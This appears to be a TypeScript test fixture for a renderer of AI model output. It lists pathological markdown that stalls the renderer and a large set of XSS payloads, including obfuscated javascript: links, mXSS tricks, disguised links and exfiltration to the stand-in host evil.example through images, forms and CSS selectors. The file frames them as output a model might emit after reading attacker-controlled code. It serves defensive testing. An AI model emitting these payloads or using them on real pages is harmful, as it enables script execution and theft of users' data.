/**
 * Model output of hostile or degenerate shapes, shared by the tests and the benchmarks.
 * The "freeze" rows: markdown-it's own pathological inputs, of the shape a model in a repetition
 * loop emits; before the render bounds they blocked a view's main thread for 4–14 s (issue 16).
 */
export const FREEZE_INPUTS: readonly { name: string; text: string }[] = [
  { name: "120 KB of '*' around one letter", text: "*".repeat(60000) + "a" + "*".repeat(60000) },
  { name: "160 KB of alternating emphasis", text: "*a ".repeat(20000) + "_a*_ ".repeat(20000) },
  { name: "70 KB of nested emphasis", text: "*a **a ".repeat(5000) + "b" + " a** a*".repeat(5000) },
  { name: "700 KB paragraph with NULs", text: "abc\u0000de\u0000".repeat(100000) },
];

/**
 * Untrusted model output (issue 15): markdown and HTML a model may emit after reading attacker-
 * controlled code. A payload that "works" sets `window.__pwned`, or loads something from
 * `EVIL` (the test intercepts every request and fails on any host but the webview's own).
 */
export const EVIL = "https://evil.example";
const js = "window.__pwned=1";
const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "&#x6A;avascript:", "\u0000javascript:", " javascript:", "vbscript:", "data:text/html,<script>" + js + "</script>", "file:///etc/passwd", "jav&#x09;ascript:"];

export const HOSTILE_OUTPUT: readonly { name: string; text: string }[] = [
  // Script tags and event handlers.
  { name: "script tag", text: `<script>${js}</script>` },
  { name: "script in a paragraph", text: `Hello <script>${js}</script> world` },
  { name: "img onerror", text: `<img src=x onerror="${js}">` },
  { name: "svg onload", text: `<svg onload="${js}"></svg>` },
  { name: "body onload", text: `<body onload="${js}">` },
  { name: "details ontoggle", text: `<details open ontoggle="${js}"><summary>x</summary></details>` },
  { name: "autofocus onfocus", text: `<input autofocus onfocus="${js}">` },
  { name: "marquee onstart", text: `<marquee onstart="${js}">x</marquee>` },
  { name: "video onerror", text: `<video><source onerror="${js}"></video>` },
  { name: "event handler in code span stays text", text: "`<img src=x onerror=" + js + ">`" },
  // Links with dangerous schemes, written every way.
  ...schemes.map((s, i) => ({ name: `link scheme ${i}: ${JSON.stringify(s).slice(0, 30)}`, text: `[click me](${s}${s.startsWith("data:") || s.startsWith("file:") ? "" : js})` })),
  { name: "html anchor javascript", text: `<a href="javascript:${js}">x</a>` },
  { name: "autolink javascript", text: `<javascript:${js}>` },
  { name: "reference link javascript", text: `[x][r]\n\n[r]: javascript:${js}` },
  // SVG / MathML mXSS and parsing differentials.
  { name: "svg foreignObject", text: `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>` },
  { name: "math mglyph style", text: `<math><mtext><table><mglyph><style><img src=x onerror="${js}">` },
  { name: "noscript differential", text: `<noscript><p title="</noscript><img src=x onerror=${js}>">` },
  { name: "style differential", text: `<style><img src=x onerror="${js}"></style>` },
  { name: "template", text: `<template><img src=x onerror="${js}"></template>` },
  { name: "svg animate href", text: `<svg><a><animate attributeName=href values="javascript:${js}"/><text y=20>x</text></a></svg>` },
  { name: "svg use external", text: `<svg><use href="${EVIL}/sprite.svg#x"/></svg>` },
  { name: "form action", text: `<form action="${EVIL}/steal"><button>go</button></form>` },
  { name: "iframe", text: `<iframe src="${EVIL}/frame"></iframe>` },
  { name: "iframe srcdoc", text: `<iframe srcdoc="<script>parent.${js}</script>"></iframe>` },
  { name: "object data", text: `<object data="${EVIL}/x.swf"></object>` },
  { name: "embed", text: `<embed src="${EVIL}/x">` },
  { name: "base href", text: `<base href="${EVIL}/">\n\n[rel](page)` },
  { name: "meta refresh", text: `<meta http-equiv="refresh" content="0;url=${EVIL}/">` },
  // Style injection.
  { name: "style import", text: `<style>@import url(${EVIL}/x.css);</style>` },
  { name: "inline style url", text: `<div style="background:url(${EVIL}/bg.png)">x</div>` },
  { name: "style attribute selector exfiltration", text: `<style>input[value^=a]{background:url(${EVIL}/a)}</style>` },
  { name: "link stylesheet", text: `<link rel="stylesheet" href="${EVIL}/x.css">` },
  { name: "link prefetch", text: `<link rel="prefetch" href="${EVIL}/p">` },
  // Remote images in every form.
  { name: "markdown image", text: `![x](${EVIL}/?d=SECRET)` },
  { name: "reference image", text: `![x][i]\n\n[i]: ${EVIL}/ref.png` },
  { name: "image in a link", text: `[![x](${EVIL}/in-link.png)](https://example.com)` },
  { name: "html img", text: `<img src="${EVIL}/img.png">` },
  { name: "img srcset", text: `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x">` },
  { name: "picture source", text: `<picture><source srcset="${EVIL}/p.png"><img src="x"></picture>` },
  { name: "video poster", text: `<video poster="${EVIL}/poster.png"></video>` },
  { name: "audio src", text: `<audio src="${EVIL}/a.mp3" autoplay></audio>` },
  { name: "input image", text: `<input type="image" src="${EVIL}/i.png">` },
  { name: "table background", text: `<table background="${EVIL}/t.png"><tr><td>x</td></tr></table>` },
  { name: "svg image", text: `<svg><image href="${EVIL}/s.png"/></svg>` },
  // Entities, unicode tricks, disguised links.
  { name: "bidi override in link text", text: `[\u202Egnp.exe](https://example.com/\u202Eevil)` },
  { name: "zero-width in target", text: `[docs](https://exa\u200Bmple.com)` },
  { name: "homoglyph host", text: `[paypal](https://pаypal.com)` },
  { name: "text disguises target", text: `[https://github.com](${EVIL}/login)` },
  { name: "entity-encoded tag", text: `&lt;script&gt;${js}&lt;/script&gt;` },
  { name: "double-encoded", text: `&amp;lt;img src=x onerror=${js}&amp;gt;` },
  // Sizes and nesting.
  { name: "huge single line", text: "x".repeat(300_000) },
  { name: "10,000 nested lists", text: Array.from({ length: 10_000 }, (_, i) => `${"  ".repeat(i % 40)}- item ${i}`).join("\n") },
  { name: "10,000 nested blockquotes", text: ">".repeat(10_000) + " deep" },
  { name: "deep html nesting", text: "<div>".repeat(5000) + "x" + "</div>".repeat(5000) },
  // Code blocks that try to break out.
  { name: "fence with script after", text: "```html\n<script>" + js + "</script>\n```\n<script>" + js + "</script>" },
  { name: "unclosed fence with html", text: "```\n</code></pre><img src=x onerror=" + js + ">" },
];
